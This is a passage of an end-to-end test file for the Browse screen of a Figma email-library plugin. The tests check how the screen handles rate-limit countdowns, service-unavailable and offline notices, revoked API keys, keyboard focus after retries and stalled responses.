      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('free');
      await expect.poll(() => textOf(ui.getByTestId('library-problem').getByRole('alert')), { timeout: 10_000 }).toContain('slow down');
      // The brand's look-up waits in the plugin for the same allowance.
      await ui.getByLabel('Brand').fill('North');
      await ui.waitForTimeout(1_500);
      expect(await held(ui).count()).toBe(0);
      expect(await countdowns(ui).count()).toBe(1);
    } finally {
      await letGo();
    }
  });

  it('a brand’s page: the insights’ notice counts down, the screen’s says nothing', async () => {
    // The section's wait is long, on the window's own clock: checks that come late on a loaded machine still fall within it.
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const letGo = await refuseAsync(page, (url) => /^\/v1\/brands\/[^/]+\/insights$/.test(url.pathname), LONG_WAIT_SECONDS);
    try {
      await oneCountdownAsync(page, ui, async () => {
        await ui.getByRole('button', { name: 'Brands', exact: true }).click();
        await ui.getByRole('list', { name: 'Top brands' }).getByRole('button').first().click({ timeout: 10_000 });
        await expect.poll(() => textOf(ui.getByRole('article').getByRole('alert')), { timeout: 10_000 }).toContain('slow down');
      });
    } finally {
      await letGo();
      await context.close();
    }
  });

  it('Journeys: the list’s notice counts down, the screen’s says nothing', async () => {
    // The section's wait is long, on the window's own clock: checks that come late on a loaded machine still fall within it.
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const letGo = await refuseAsync(page, (url) => url.pathname === '/v1/journeys', LONG_WAIT_SECONDS);
    try {
      await oneCountdownAsync(page, ui, async () => {
        await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
        await expect.poll(() => textOf(ui.getByRole('region', { name: 'Journeys' }).getByRole('alert')), { timeout: 10_000 }).toContain('slow down');
      });
    } finally {
      await letGo();
      await context.close();
    }
  });

  it('Requests: My requests’ notice counts down, the screen’s says nothing', async () => {
    // The section's wait is long, on the window's own clock: checks that come late on a loaded machine still fall within it.
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const letGo = await refuseAsync(page, (url) => url.pathname === '/v1/brand-requests', LONG_WAIT_SECONDS);
    try {
      await oneCountdownAsync(page, ui, async () => {
        await ui.getByRole('button', { name: 'Requests', exact: true }).click();
        await expect.poll(() => textOf(ui.getByRole('alert').filter({ hasText: 'slow down' }).last()), { timeout: 10_000 }).toContain('slow down');
        await expect.poll(() => ui.getByText('Loading your requests…').count(), { timeout: 10_000 }).toBe(0);
      });
    } finally {
      await letGo();
      await context.close();
    }
  });

  it('an email: “the results after this email” count down, the screen’s notice says nothing (the email stepped onto waited)', async () => {
    const faults = emulatorFaults(h.emulator);
    // A long wait on the window's own clock: checks that come late on a loaded machine still fall within it.
    const { context, page, ui: opened } = await openBrowseWithClockAsync(h);
    try {
      const { ui, loaded, position } = await firstResultOpenedAsync(opened);
      for (let press = 1; press < loaded - 3; press++) await page.keyboard.press('ArrowRight');
      await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded - 3} of `));
      await faults.setAsync({ rate: 1, kinds: ['429'], retry_after: LONG_WAIT_SECONDS });
      try {
        const notice = ui.getByTestId('library-problem').filter({ hasText: 'The results after this email could not be loaded.' });
        for (let press = 0; press < 3; press++) await page.keyboard.press('ArrowRight');
        await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded} of `));
        await notice.waitFor({ timeout: 10_000 });
        await ui.waitForTimeout(1_000);
        expect(await held(ui).count()).toBe(0);
        expect(await countdowns(ui).count()).toBe(1);
      } finally {
        await faults.clearAsync();
      }
    } finally {
      await context.close();
    }
  });

  it('an email that waits too, opened as the last one loaded: one notice counts the wait down, not its own and “the results after this email” both, and both go on after it', async () => {
    const faults = emulatorFaults(h.emulator);
    // A long wait on the window's own clock, moved past once the checks are done: checks that come
    // late on a loaded machine still fall within it.
    const { context, page, ui: opened } = await openBrowseWithClockAsync(h);
    try {
      const { ui, loaded, position } = await firstResultOpenedAsync(opened);
      for (let press = 1; press < loaded - 3; press++) await page.keyboard.press('ArrowRight');
      await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded - 3} of `));
      await faults.setAsync({ rate: 1, kinds: ['429'], retry_after: LONG_WAIT_SECONDS });
      const slowDown = ui.getByRole('alert').filter({ hasText: 'slow down' });
      try {
        for (let press = 0; press < 3; press++) await page.keyboard.press('ArrowRight');
        await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded} of `));
        // The next page is refused, then the email, held meanwhile for the same wait, asks at its end and is refused too.
        await expect.poll(() => countdowns(ui).count(), { timeout: 20_000 }).toBeGreaterThan(0);
        await context.clock.fastForward(LONG_WAIT_SECONDS * 1_000);
        await expect.poll(() => textOf(ui.getByRole('article').getByRole('alert')), { timeout: 20_000 }).toContain('slow down');
        await ui.waitForTimeout(500);
        expect(await slowDown.count()).toBe(1);
        expect(await countdowns(ui).count()).toBe(1);
        expect(await held(ui).count()).toBe(0);
      } finally {
        await faults.clearAsync();
      }
      // The wait over, the email shows and Next goes on past it.
      await context.clock.fastForward(LONG_WAIT_SECONDS * 1_000);
      await ui.getByTestId('email-attribution').waitFor({ timeout: 20_000 });
      const count = async () => Number(/ of (\d+)/.exec((await textOf(position)) ?? '')?.[1]);
      await expect.poll(count, { timeout: 20_000 }).toBeGreaterThan(loaded);
      expect(await slowDown.count()).toBe(0);
    } finally {
      await context.close();
    }
  });
});

describe('Browse: the next results refused while the email before the last is open', () => {
  it('counts down only what is left of the library’s wait on reaching the last email (it started the whole wait again), and asks once at its end', async () => {
    // The window's own clock, moved through the wait by the test: what is left of it when the last
    // email shows does not hang on how long a loaded machine takes to get there.
    const { context, page, ui: opened } = await openBrowseWithClockAsync(h);
    const windowNow = () => opened.evaluate(() => Date.now());
    try {
      const { ui, loaded, position } = await firstResultOpenedAsync(opened);
      for (let press = 1; press < loaded - 3; press++) await page.keyboard.press('ArrowRight');
      await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded - 3} of `));
      // The next page is refused once with a long wait; asked again, it comes.
      const nextPage = (url: URL) => url.pathname === '/v1/emails' && Number(url.searchParams.get('page') ?? '1') >= 2;
      let refused = 0;
      const stopNextPageAsync = await addRouteAsync(page, nextPage, (route) => {
        if (refused++ > 0) return route.fallback();
        return route.fulfill(librarySlowDownFor(LONG_WAIT_SECONDS));
      });
      const waitMs = LONG_WAIT_SECONDS * 1_000;
      try {
        // The email before the last asks for the next page: refused, and nothing in sight says so yet.
        for (let press = 0; press < 2; press++) await page.keyboard.press('ArrowRight');
        await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded - 1} of `));
        await expect.poll(() => refused, { timeout: 10_000 }).toBe(1);
        const refusedAt = await windowNow();
        // Half the wait goes by on the email before the last.
        await context.clock.fastForward(waitMs / 2);
        await page.keyboard.press('ArrowRight');
        await expect.poll(() => textOf(position), { timeout: 10_000 }).toMatch(new RegExp(`^← Back to results${loaded} of `));
        const notice = ui.getByTestId('library-problem').filter({ hasText: 'The results after this email could not be loaded.' });
        await notice.waitFor({ timeout: 10_000 });
        const said = Number(/Trying again in (\d+) seconds?/.exec((await textOf(notice)) ?? '')?.[1]);
        const left = Math.ceil((refusedAt + waitMs - (await windowNow())) / 1000);
        expect(said).toBeLessThanOrEqual(left + 1);
        // At the wait's end, one ask brings the next results and Next goes on.
        const next = ui.getByRole('button', { name: 'Next', exact: true });
        await context.clock.fastForward(Math.max(0, refusedAt + waitMs - (await windowNow())));
        await expect.poll(() => next.isEnabled(), { timeout: 15_000 }).toBe(true);
        // Not a whole wait again from the last email (that would be half a wait more).
        expect((await windowNow()) - refusedAt).toBeLessThan(waitMs + 3_000);
        expect(await notice.count()).toBe(0);
        await ui.waitForTimeout(1_500);
        expect(refused).toBe(2);
      } finally {
        await stopNextPageAsync();
      }
    } finally {
      await context.close();
    }
  });
});

describe('Browse: attribution', () => {
  it('names the library, linked, wherever its emails or insights show: the grid, a brand page, journeys', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    const { meta } = await libraryAsync<{ meta: { attribution: { source: string; url: string } } }>('/v1/emails?per_page=1');
    const credit = async () => {
      const link = ui.getByRole('link', { name: meta.attribution.source, exact: true }).filter({ visible: true });
      await expect.poll(() => link.count(), { timeout: 10_000 }).toBe(1);
      expect(await link.getAttribute('href')).toBe(meta.attribution.url);
    };
    await credit();
    const brandName = (await cards(ui).first().locator('.email-card-brand').textContent()) ?? '';
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(brandName);
    await ui.getByRole('list', { name: `Brands matching “${brandName}”` }).getByRole('button', { name: new RegExp(`^${brandName}`) }).click();
    await ui.getByRole('heading', { name: 'Insights' }).waitFor({ timeout: 10_000 });
    await credit();
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button').first().waitFor({ timeout: 10_000 });
    await credit();
  });
});

describe('Browse: a key replaced after a 401', () => {
  it('keeps the search and its filters, and shows their results with the new key', async () => {
    const ui = await openBrowseAsync('light', 'key');
    // The library stops taking the key (revoked meanwhile) until the designer saves one it takes.
    const searches = `${h.emulator.libraryUrl}/v1/emails?*`;
    const stopSearchesAsync = await addRouteAsync(h.page, searches, (route) =>
      route.fulfill({
        status: 401,
        headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
        body: JSON.stringify({ error: { code: 'unauthorized', message: 'The API key was revoked by its owner.' } }),
      }),
    );
    try {
      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('free');
      await ui.getByLabel('Category').selectOption({ label: 'Beauty' });
      const alert = ui.getByTestId('library-problem').getByRole('alert');
      await expect.poll(() => textOf(alert), { timeout: 15_000 }).toMatch(/^The library API key was not accepted\./);
      await ui.getByRole('button', { name: 'Open Settings' }).click();
      await ui.getByTestId('settings-library-key').fill(state.library.keys.other!);
    } finally {
      await stopSearchesAsync();
    }
    await ui.getByTestId('settings-library-save').click();
    await expect.poll(() => evaluateHooks(h.page, async (hooks) => hooks.fake().figma.clientStorage.getAsync('envelope.library.apiKey')), { timeout: 10_000 }).toBe(state.library.keys.other);
    await ui.getByTestId('nav-browse').click();
    expect(await ui.getByRole('searchbox', { name: 'Search emails' }).inputValue()).toBe('free');
    expect(await ui.getByLabel('Category').inputValue()).toBe('Beauty');
    const found = await libraryAsync<{ data: Summary[] }>('/v1/emails?q=free&category=beauty&per_page=50', state.library.keys.other);
    await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(found.data[0]!.subject_line);
  });
});

describe('Browse: a new key starts it afresh', () => {
  it('even when the new key’s masked hint reads like the old one’s', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const demo = state.library.keys.demo!;
    // Same prefix and last four characters, so the same hint; the library refuses it.
    const middle = Math.floor(demo.length / 2);
    const lookalike = `${demo.slice(0, middle)}${demo[middle] === 'a' ? 'b' : 'a'}${demo.slice(middle + 1)}`;
    await ui.getByTestId('nav-settings').click();
    const hintBefore = await textOf(ui.getByTestId('settings-library-key-hint'));
    await ui.getByTestId('settings-library-replace-key').click();
    await ui.getByTestId('settings-library-key').fill(lookalike);
    await ui.getByTestId('settings-library-save').click();
    await expect.poll(() => textOf(ui.getByTestId('settings-library-key-hint')), { timeout: 10_000 }).toBe(hintBefore);
    await ui.getByTestId('nav-browse').click();
    const alert = ui.getByTestId('library-problem').getByRole('alert');
    await expect.poll(() => textOf(alert), { timeout: 15_000 }).toMatch(/^The library API key was not accepted\./);
  });
});

describe('Browse: kept while another screen shows', () => {
  it('keeps the query, the filters, the scroll place and an open email across Settings and Sync', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const { urls: requests, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/`));
    try {
      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('free');
      await ui.getByLabel('Category').selectOption({ label: 'Beauty' });
      const found = await libraryAsync<{ data: Summary[] }>('/v1/emails?q=free&category=beauty&per_page=50');
      expect(found.data.length, 'the emulator has free beauty emails').toBeGreaterThan(12);
      await expect.poll(() => loadedCountAsync(ui), { timeout: 10_000 }).toBe(found.data.length);
      expect((await cardSubjectsAsync(ui))[0]).toBe(found.data[0]!.subject_line);
      const grid = ui.getByTestId('email-grid');
      await grid.evaluate((element) => (element.scrollTop = 300));
      await expect.poll(() => grid.evaluate((element) => element.scrollTop)).toBe(300);
      // The scroll event and the grid's render come before the next frames.
      await ui.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
      const shownBefore = await cardSubjectsAsync(ui);
      const sentBefore = requests.length;

      await ui.getByTestId('nav-settings').click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
      expect(await ui.getByRole('searchbox', { name: 'Search emails' }).isVisible()).toBe(false);
      // The keys are Settings' own while Browse is away: `/` does not reach the hidden search.
      await ui.getByRole('heading', { level: 1 }).click();
      await h.page.keyboard.press('/');
      expect(await ui.evaluate(() => document.activeElement?.id ?? '')).not.toBe('library-query');
      await checkAxeAsync(ui, 'settings with Browse kept');

      await ui.getByTestId('nav-browse').click();
      expect(await ui.getByRole('searchbox', { name: 'Search emails' }).inputValue()).toBe('free');
      expect(await ui.getByLabel('Category').inputValue()).toBe('Beauty');
      await expect.poll(() => grid.evaluate((element) => element.scrollTop)).toBe(300);
      expect(await cardSubjectsAsync(ui)).toEqual(shownBefore);
      // Nothing read again: what was on screen is what comes back.
      expect(requests.length).toBe(sentBefore);

      // An open email survives a look at Sync (and Escape pressed there does not close it).
      const card = emailList(ui).getByRole('button').first();
      const index = (await card.getAttribute('data-index'))!;
      const subject = (await card.locator('.email-card-subject').textContent()) ?? '';
      await card.click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(subject);
      await ui.getByTestId('nav-sync').click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Sync');
      await ui.getByRole('heading', { level: 1 }).click();
      await h.page.keyboard.press('Escape');
      await ui.getByTestId('nav-browse').click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 }))).toBe(subject);
      await checkAxeAsync(ui, 'an email, back from Sync');
      await h.page.keyboard.press('Escape');
      await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe(index);
      expect(await ui.getByRole('searchbox', { name: 'Search emails' }).inputValue()).toBe('free');
    } finally {
      stopWatching();
    }
  });
});

describe('Browse: when the library says no', () => {
  it('waits out a 429 calmly with the seconds left, then tries again by itself; a 503 says so and offers to try again', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`));
    try {
      await faults.setAsync({ rate: 1, kinds: ['429'] });
      await ui.getByLabel('Category').selectOption({ label: 'Travel' });
      const alert = ui.getByTestId('library-problem').getByRole('alert');
      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toBe('The library asks us to slow down for a moment.');
      // The seconds show beside the alert, not in it: a screen reader says the alert once, not again at every tick.
      expect(await ui.getByTestId('library-problem').getByText(/^Trying again in [1-3] seconds?\.$/).count()).toBe(1);
      await faults.setAsync({ rate: 0 });
      const travel = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=travel&per_page=50');
      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(travel.data[0]!.subject_line);
      // One refused request and one retry: never a burst.
      expect(sent.filter((url) => url.includes('category=travel')).length).toBe(2);

      await faults.setAsync({ rate: 1, kinds: ['503'] });
      await ui.getByLabel('Category').selectOption({ label: 'Pets' });
      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toBe('The library is unavailable right now. Try again in a little while.');
      await faults.setAsync({ rate: 0 });
      await ui.getByRole('button', { name: 'Try again' }).click();
      const pets = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=pets&per_page=50');
      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(pets.data[0]!.subject_line);
    } finally {
      stopWatching();
      await faults.setAsync({ rate: 0 });
    }
  });
});

describe('Browse: a notice in place of what the designer was on', () => {
  const focused = (ui: Frame) => ui.evaluate(() => (document.activeElement === document.body ? 'the page' : `${document.activeElement?.tagName ?? ''} ${document.activeElement?.textContent ?? ''}`));

  it('takes the keyboard to its Try again when a retry fails again or a brand opened cannot be read, and leaves it where it is when the notice comes on its own', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    try {
      // A filter chosen: the notice comes below it, and the keyboard stays on the filter.
      const category = ui.getByLabel('Category');
      await category.focus();
      await category.selectOption({ label: 'Pets' });
      const alert = ui.getByTestId('library-problem').getByRole('alert');
      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toMatch(/^The library is unavailable right now/);
      expect(await focused(ui)).toMatch(/^SELECT /);
      // Try again, failing again: the button pressed went while it asked (the focus fell to the page).
      await ui.getByRole('button', { name: 'Try again' }).focus();
      await h.page.keyboard.press('Enter');
      await expect.poll(() => focused(ui), { timeout: 10_000 }).toBe('BUTTON Try again');

      // Journeys' list, the same.
      await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
      const journeysRetry = ui.getByRole('region', { name: 'Journeys' }).getByRole('button', { name: 'Try again' });
      await journeysRetry.focus();
      await h.page.keyboard.press('Enter');
      await expect.poll(() => focused(ui), { timeout: 10_000 }).toBe('BUTTON Try again');
      await expect.poll(() => journeysRetry.evaluate((element) => element === document.activeElement)).toBe(true);
    } finally {
      await faults.clearAsync();
    }
    // A brand opened from the list whose answer cannot be read: the row went with the list.
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Top brands' }).getByRole('button').nth(2);
    await row.waitFor({ timeout: 10_000 });
    await faults.setAsync({ rate: 1, kinds: ['malformed'] });
    try {
      await row.focus();
      await h.page.keyboard.press('Enter');
      await expect.poll(() => textOf(ui.getByRole('article').getByTestId('library-problem').getByRole('alert')), { timeout: 10_000 }).toMatch(/\S/);
      await expect.poll(() => focused(ui)).toBe('BUTTON Try again');
    } finally {
      await faults.clearAsync();
    }
  });
});

describe('Browse: a Try again that works', () => {
  it('goes on with the keyboard in the results it brought, not from the top of the page', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    try {
      await ui.getByLabel('Category').selectOption({ label: 'Pets' });
      await expect.poll(() => textOf(ui.getByTestId('library-problem').getByRole('alert')), { timeout: 10_000 }).toMatch(/^The library is unavailable right now/);
    } finally {
      await faults.clearAsync();
    }
    await ui.getByRole('button', { name: 'Try again' }).focus();
    await h.page.keyboard.press('Enter');
    const pets = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=pets&per_page=50');
    await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(pets.data[0]!.subject_line);
    // The button pressed went while it asked: the focus fell to the page.
    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('0');
  });
});

/** With the library answering 503, `arriveAsync` brings a notice into `region`; its Try again, pressed from the keyboard, then works. */
/** The focus lands once the retried list has come: the time a list may take under a loaded CI run, not the poll's default second. */
const LIST_ARRIVES = { timeout: 10_000 };

async function retryThatWorksAsync(faults: EmulatorFaults, region: Locator, arriveAsync: () => Promise<void>): Promise<void> {
  const retry = region.getByRole('button', { name: 'Try again' }).first();
  await faults.setAsync({ rate: 1, kinds: ['503'] });
  try {
    await arriveAsync();
    await retry.waitFor({ timeout: 10_000 });
  } finally {
    await faults.clearAsync();
  }
  await retry.focus();
  await h.page.keyboard.press('Enter');
}

describe('Journeys: a journey opened that cannot be read', () => {
  it('gives its Try again the keyboard (the heading kept it, so the notice did not), and the heading once it comes', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    const journeys = ui.getByRole('region', { name: 'Journeys' });
    const row = journeys.getByRole('list', { name: 'Brands with a journey' }).getByRole('button').first();
    await row.waitFor({ timeout: 10_000 });
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    try {
      await row.focus();
      await h.page.keyboard.press('Enter');
      await journeys.getByTestId('library-problem').waitFor({ timeout: 10_000 });
      await expect.poll(() => focusedPlaceAsync(ui)).toBe('BUTTON Try again');
    } finally {
      await faults.clearAsync();
    }
    await journeys.getByRole('button', { name: '← All journeys' }).click();
    await expect.poll(() => focusedPlaceAsync(ui)).toBe('row 0 of Brands with a journey');
    await h.page.keyboard.press('Enter');
    await expect.poll(() => focusedPlaceAsync(ui)).toMatch(/^H2 .+: journey$/);
  });
});

describe('Browse: a Try again that works, in the other sections', () => {
  it('goes on with the keyboard at the first row or heading of what it brought, not from the top of the page', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const journeys = ui.getByRole('region', { name: 'Journeys' });
    await retryThatWorksAsync(faults, journeys, () => ui.getByRole('button', { name: 'Journeys', exact: true }).click());
    await expect.poll(() => focusedPlaceAsync(ui), LIST_ARRIVES).toBe('row 0 of Brands with a journey');

    // A journey opened: the emails of its first stage.
    await retryThatWorksAsync(faults, journeys, () => journeys.getByRole('list', { name: 'Brands with a journey' }).getByRole('button').first().click());
    await expect.poll(() => focusedPlaceAsync(ui), LIST_ARRIVES).toMatch(/^row 0 of .+ emails$/);

    const brands = ui.getByRole('region', { name: 'Brands' });
    await retryThatWorksAsync(faults, brands, () => ui.getByRole('button', { name: 'Brands', exact: true }).click());
    await expect.poll(() => focusedPlaceAsync(ui), LIST_ARRIVES).toBe('row 0 of Top brands');

    const me = ui.getByRole('region', { name: 'Me' });
    await retryThatWorksAsync(faults, me, () => ui.getByRole('button', { name: 'Me', exact: true }).click());
    await expect.poll(() => focusedPlaceAsync(ui), LIST_ARRIVES).toBe('row 0 of Followed brands');

    // Its rows hold nothing to press (a link at most): the list's heading.
    const requests = ui.getByRole('region', { name: 'Brand requests' });
    await retryThatWorksAsync(faults, requests, () => ui.getByRole('button', { name: 'Requests', exact: true }).click());
    await expect.poll(() => focusedPlaceAsync(ui), LIST_ARRIVES).toBe('H3 My requests');
  });
});

describe('Browse: a 429 asking to wait hours', () => {
  it('says by when the wait ends, with no Try again before then (it went at once and was refused again), instead of counting down thousands of seconds', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    try {
      const pageNow = () => ui.evaluate(() => Date.now());
      const asked = await pageNow();
      await faults.setAsync({ rate: 1, kinds: ['429'], retry_after: 7200 });
      await ui.getByLabel('Category').selectOption({ label: 'Travel' });
      const alert = ui.getByTestId('library-problem').getByRole('alert');
      // After 22:00 the two hours end tomorrow, and the day is named ("after Monday 00:22").
      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toMatch(/^The library asks us to slow down for a while\. You can try again after (?:[A-Z][a-z]+day )?\d\d:\d\d, in about 2 hours\.$/);
      // The time said is the browser's clock two hours on from the refusal (between the choice and
      // now), its minute rounded up: never a time before the wait ends.
      const said = /after ((?:[A-Z][a-z]+day )?\d\d:\d\d)/.exec((await textOf(alert)) ?? '')![1];
      const minuteSaidFor = (fromMs: number) =>
        ui.evaluate((untilMs) => {
          const until = new Date(Math.ceil(untilMs / 60_000) * 60_000);
          const day = until.toDateString() === new Date().toDateString() ? '' : `${until.toLocaleDateString('en-GB', { weekday: 'long' })} `;
          return `${day}${until.toLocaleTimeString('en-GB', { timeStyle: 'short' })}`;
        }, fromMs + 7_200_000);
      expect([await minuteSaidFor(asked), await minuteSaidFor(await pageNow())]).toContain(said);
      expect(await ui.getByRole('button', { name: 'Try again' }).count()).toBe(0);
      expect(await ui.getByText(/Trying again in/).count()).toBe(0);
      expect(await ui.getByLabel('Category').inputValue()).toBe('Travel');
      await checkAxeAsync(ui, 'Browse, a wait of hours');
    } finally {
      await faults.clearAsync();
    }
  });

  it('leaves the notice still while the wait of hours goes by, instead of drawing it again every second', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    try {
      // Counts the plugin window's every-second ticks from here on.
      await ui.evaluate(() => {
        const counted = window as unknown as { ticks: number };
        counted.ticks = 0;
        const original = window.setInterval.bind(window);
        window.setInterval = ((tick: () => void, ms?: number) => original(() => (counted.ticks++, tick()), ms)) as typeof window.setInterval;
      });
      await faults.setAsync({ rate: 1, kinds: ['429'], retry_after: 7200 });
      await ui.getByLabel('Category').selectOption({ label: 'Travel' });
      await expect.poll(() => textOf(ui.getByTestId('library-problem').getByRole('alert')), { timeout: 10_000 }).toMatch(/in about 2 hours\.$/);
      await ui.waitForTimeout(2_500);
      expect(await ui.evaluate(() => (window as unknown as { ticks: number }).ticks)).toBe(0);
    } finally {
      await faults.clearAsync();
    }
  });

  it('says so when the wait is over, as its Try again comes, and leaves the focus where it is (the button came unannounced)', async () => {
    const faults = emulatorFaults(h.emulator);
    const { context, ui } = await openBrowseWithClockAsync(h);
    try {
      const regions = await watchStatusRegionsAsync(ui);
      await faults.setAsync({ rate: 1, kinds: ['429'], retry_after: 7200 });
      const category = ui.getByLabel('Category');
      await category.selectOption({ label: 'Travel' });
      const notice = ui.getByTestId('library-problem');
      await expect.poll(() => textOf(notice.getByRole('alert')), { timeout: 10_000 }).toMatch(/in about 2 hours\.$/);
      await faults.setAsync({ rate: 0 });
      await category.focus();
      expect(await notice.getByRole('button', { name: 'Try again' }).count()).toBe(0);
      await context.clock.fastForward('02:00:01');
      await expect.poll(() => textOf(notice.getByRole('status')), { timeout: 10_000 }).toBe('You can try again now.');
      expect(await notice.getByRole('button', { name: 'Try again' }).count()).toBe(1);
      // Said in a status line that was there before (one added already filled may go unannounced).
      expect(await regions.said()).toContain('You can try again now.');
      expect(await regions.addedWith()).not.toContain('You can try again now.');
      expect(await category.evaluate((element) => element === document.activeElement)).toBe(true);
      await checkAxeAsync(ui, 'Browse, a wait of hours over');
    } finally {
      await faults.clearAsync();
      await context.close();
    }
  });
});

describe('Browse: offline', () => {
  it('says the library cannot be reached, keeps the search, and tries again on request', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const offline = `${h.emulator.libraryUrl}/v1/**`;
    const stopOfflineAsync = await addRouteAsync(h.page, offline, (route) => route.abort('internetdisconnected'));
    try {
      await ui.getByLabel('Category').selectOption({ label: 'Food' });
      const alert = ui.getByTestId('library-problem').getByRole('alert');
      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toMatch(/^Envelope could not reach the email library\. Check your internet connection/);
      // Said once (Browse put its own "cannot be reached" before the client's words).
      expect((await textOf(alert))?.match(/reach/gi)).toHaveLength(1);
      expect(await ui.getByLabel('Category').inputValue()).toBe('Food');
    } finally {
      await stopOfflineAsync();
    }
    await ui.getByRole('button', { name: 'Try again' }).click();
    const food = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=food&per_page=50');
    await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(food.data[0]!.subject_line);
  });
});

describe('Browse: answers that stop half-way', () => {
  it('works again once the library answers, after answers that stopped half-way used up the browser’s connections to it', { timeout: 150_000 }, async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const searches = (url: string) => url.startsWith(`${h.emulator.libraryUrl}/v1/emails?`);
    const { urls: sent, stop: stopWatching } = watchRequests((request) => searches(request.url()));
    try {
      // Every answer sends its headers and half its body, then nothing more.
      await faults.setAsync({ rate: 1, kinds: ['stall'] });
      // The designer tries one category after another while nothing comes: six searches, more
      // than the six connections a browser keeps to one host.
      for (const label of ['Food', 'Travel', 'Pets', 'Beauty', 'Home', 'Baby']) {
        const before = sent.length;
        await ui.getByLabel('Category').selectOption({ label });
        await expect.poll(() => sent.length, { timeout: 45_000 }).toBeGreaterThan(before);
      }
      const alert = ui.getByTestId('library-problem').getByRole('alert');
      await expect.poll(() => textOf(alert), { timeout: 45_000 }).toMatch(/did not answer within 20 seconds\. Try again\.$/);
      // The library answers again: one Try again shows the last search, with one request.
      await faults.setAsync({ rate: 0 });
      const before = sent.length;
      await ui.getByRole('button', { name: 'Try again' }).click();
      const baby = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=baby&per_page=50');
      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 15_000 }).toBe(baby.data[0]!.subject_line);
      expect(await ui.getByLabel('Category').inputValue()).toBe('Baby');
      expect(sent.slice(before)).toHaveLength(1);
    } finally {
      stopWatching();
      await faults.setAsync({ rate: 0 });
    }
  });
});

describe('Browse: searches replaced while the library stalls', () => {
  it('lets go of the searches the designer moved on from, so the next one is not left waiting behind them', { timeout: 90_000 }, async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const searches = (url: string) => url.startsWith(`${h.emulator.libraryUrl}/v1/emails?`);
    const { urls: sent, stop: stopWatching } = watchRequests((request) => searches(request.url()));
    const cancelled: string[] = [];
    const watchFailed = (request: Request) => {
      if (searches(request.url())) cancelled.push(request.url());
    };
    h.page.on('requestfailed', watchFailed);
    try {
      // Every answer sends its headers and half its body, then nothing more.
      await faults.setAsync({ rate: 1, kinds: ['stall'] });
      // Four categories, one after another, while nothing comes: as many as the library's slots.
